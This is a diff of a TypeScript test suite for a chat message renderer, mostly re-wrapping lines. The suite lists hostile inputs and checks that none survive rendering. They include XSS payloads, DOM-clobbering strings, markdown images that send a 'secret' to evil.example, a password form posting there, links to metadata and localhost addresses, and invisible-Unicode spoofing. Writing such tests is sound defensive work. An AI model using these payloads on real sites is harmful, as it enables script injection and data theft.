@@ -52,15 +52,30 @@ const hostile: Readonly<Record<string, readonly string[]>> = {
     '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">',
     '> '.repeat(300) + '<img src=x onerror=alert(1)>',
   ],
-  'T5 double decoding': ['&lt;img src=x onerror=alert(1)&gt;', '&amp;lt;script&amp;gt;alert(1)', '\\u003cscript\\u003e', '%3Cscript%3Ealert(1)%3C/script%3E'],
-  'T6 clobbering': ['<a id=location name=location href=x>', '<form id=document><input name=cookie>', '# __proto__\n\n# constructor', '[__proto__]\n\n[__proto__]: /a', '[constructor][]\n\n[toString]: /b'],
+  'T5 double decoding': [
+    '&lt;img src=x onerror=alert(1)&gt;',
+    '&amp;lt;script&amp;gt;alert(1)',
+    '\\u003cscript\\u003e',
+    '%3Cscript%3Ealert(1)%3C/script%3E',
+  ],
+  'T6 clobbering': [
+    '<a id=location name=location href=x>',
+    '<form id=document><input name=cookie>',
+    '# __proto__\n\n# constructor',
+    '[__proto__]\n\n[__proto__]: /a',
+    '[constructor][]\n\n[toString]: /b',
+  ],
   'T7 shadow roots and custom elements': [
     '<div><template shadowrootmode=open><script>alert(1)</script></template></div>',
     '<slot name=x></slot><p part=message slot=x>',
     '<aisle-chat gateway="https://evil.example"></aisle-chat>',
     '<aisle-product-card></aisle-product-card>',
   ],
-  'T8 page frameworks': ['{{constructor.constructor("alert(1)")()}}', '<b x-init="alert(1)" v-html="x" hx-get="/x" ng-app data-method="delete">', '<i is="x-y">'],
+  'T8 page frameworks': [
+    '{{constructor.constructor("alert(1)")()}}',
+    '<b x-init="alert(1)" v-html="x" hx-get="/x" ng-app data-method="delete">',
+    '<i is="x-y">',
+  ],
   'T9 pictures from elsewhere': [
     '![x](https://evil.example/p.gif?d=secret)',
     '![x][i]\n\n[i]: https://evil.example/p.gif',
@@ -70,8 +85,18 @@ const hostile: Readonly<Record<string, readonly string[]>> = {
     '![x](&#104;ttps://evil.example/p.gif)',
     '<https://shop.example@evil.example/>',
   ],
-  'T10 pictures from here': ['![x](/logout)', '![x](/cart/add?id=1&q=99)', '![x](data:image/svg+xml,<svg onload=alert(1)>)'],
-  'T11 the local network': ['[x](https://192.168.0.1/)', '[x](https://169.254.169.254/latest)', '![x](http://localhost:8080/)', '<https://127.1/>', '[x](https://[::1]/)'],
+  'T10 pictures from here': [
+    '![x](/logout)',
+    '![x](/cart/add?id=1&q=99)',
+    '![x](data:image/svg+xml,<svg onload=alert(1)>)',
+  ],
+  'T11 the local network': [
+    '[x](https://192.168.0.1/)',
+    '[x](https://169.254.169.254/latest)',
+    '![x](http://localhost:8080/)',
+    '<https://127.1/>',
+    '[x](https://[::1]/)',
+  ],
   'T12 requests without a picture': [
     '<img srcset="https://evil.example/a 1x">',
     '<picture><source srcset=https://evil.example/a></picture>',
@@ -80,7 +105,11 @@ const hostile: Readonly<Record<string, readonly string[]>> = {
     '<link rel=dns-prefetch href=//evil.example>',
     '<a href="/" ping="https://evil.example/a" attributionsrc>x</a>',
   ],
-  'T13 styles': ['<style>@import "https://evil.example/a.css"</style>', '<p style="position:fixed;inset:0;background:url(//evil.example)">', '<b style="expression(alert(1))">'],
+  'T13 styles': [
+    '<style>@import "https://evil.example/a.css"</style>',
+    '<p style="position:fixed;inset:0;background:url(//evil.example)">',
+    '<b style="expression(alert(1))">',
+  ],
   'T14 forms': [
     '<form action=https://evil.example><input type=password><button>',
     '<button popovertarget=x popover autofocus accesskey=a>x',
@@ -88,7 +117,13 @@ const hostile: Readonly<Record<string, readonly string[]>> = {
     '- [x] <input type=image src=/logout form=f>',
   ],
   'T15 another host': ['[shop.example](https://evil.example/)', '[https://shop.example/pay](https://evil.example/pay)'],
-  'T16 what cannot be seen': ['a\u202egpj.exe\u202c', '\u2066\u2066\u2066a', 'pay\u200bpal', `hi${'\u{e0041}\u{e0042}\u{e007f}'}`, `x${'\ufe01'.repeat(9)}`],
+  'T16 what cannot be seen': [
+    'a\u202egpj.exe\u202c',
+    '\u2066\u2066\u2066a',
+    'pay\u200bpal',
+    `hi\u{e0041}\u{e0042}\u{e007f}`,
+    `x${'\ufe01'.repeat(9)}`,
+  ],
   'T17 marks and long words': [`Z${'\u0335'.repeat(400)}`, 'W'.repeat(600), '﷽'.repeat(30)],
 };
 
@@ -110,19 +145,23 @@ const allowedAttributes: Readonly<Record<string, readonly string[]>> = {
 function expectProse(container: Element, source: string): void {
   for (const element of container.querySelectorAll('*')) {
     const name = element.localName;
-    if (!allowedTags.has(name) || element.namespaceURI !== 'http://www.w3.org/1999/xhtml') expect.fail(`<${name}> from ${source}`);
+    if (!allowedTags.has(name) || element.namespaceURI !== 'http://www.w3.org/1999/xhtml')
+      expect.fail(`<${name}> from ${source}`);
     for (const attribute of element.getAttributeNames()) {
       if (!(allowedAttributes[name] ?? []).includes(attribute)) expect.fail(`<${name} ${attribute}> from ${source}`);
     }
     if (element instanceof HTMLAnchorElement) expectSafeLink(element, source);
-    if (element instanceof HTMLInputElement) expect(element.type === 'checkbox' && element.disabled, source).to.equal(true);
+    if (element instanceof HTMLInputElement)
+      expect(element.type === 'checkbox' && element.disabled, source).to.equal(true);
   }
 }
 
 function expectSafeLink(link: HTMLAnchorElement, source: string): void {
   const local = link.origin === location.origin;
-  if (!local && link.protocol !== 'https:' && link.protocol !== 'mailto:' && link.protocol !== 'tel:') expect.fail(`${link.href} from ${source}`);
-  if (/^(?:127|10|192\.168|169\.254)\.|localhost|\[/.test(link.hostname) && !local) expect.fail(`${link.href} from ${source}`);
+  if (!local && link.protocol !== 'https:' && link.protocol !== 'mailto:' && link.protocol !== 'tel:')
+    expect.fail(`${link.href} from ${source}`);
+  if (/^(?:127|10|192\.168|169\.254)\.|localhost|\[/.test(link.hostname) && !local)
+    expect.fail(`${link.href} from ${source}`);
   if (link.protocol === 'https:' && !local) {
     expect(link.rel, source).to.equal('noopener noreferrer nofollow ugc');
     expect(link.textContent, source).to.contain(link.host.replace(/^www\./, ''));
@@ -166,10 +205,13 @@ describe('hostile text', () => {
           window.alert = (value) => ran.push(value);
           try {
             createTextRenderer(container).update(text, 'done');
-            for (const element of container.querySelectorAll<HTMLElement>('*')) element.dispatchEvent(new MouseEvent('mouseover'));
+            for (const element of container.querySelectorAll<HTMLElement>('*'))
+              element.dispatchEvent(new MouseEvent('mouseover'));
             await new Promise((resolve) => setTimeout(resolve, 0));
             expect(ran).to.deep.equal([]);
-            expect(performance.getEntriesByType('resource').filter(({ name }) => name.includes('evil.example'))).to.deep.equal([]);
+            expect(
+              performance.getEntriesByType('resource').filter(({ name }) => name.includes('evil.example')),
+            ).to.deep.equal([]);
           } finally {
             window.alert = alertBefore;
           }
